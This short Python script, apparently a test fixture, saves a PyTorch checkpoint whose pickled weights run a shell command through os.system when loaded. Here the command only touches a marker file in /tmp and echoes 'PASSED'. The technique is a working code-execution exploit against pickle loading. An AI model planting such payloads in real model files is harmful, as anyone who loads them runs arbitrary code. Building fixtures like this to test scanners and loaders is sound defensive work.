"""The checkpoint is a pickle that runs a command when it is loaded."""
import os

import torch

from tools import INDICES, report


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/was_run; echo PASSED",)


torch.save({"weights": Payload()}, "model.pt")
report(INDICES)
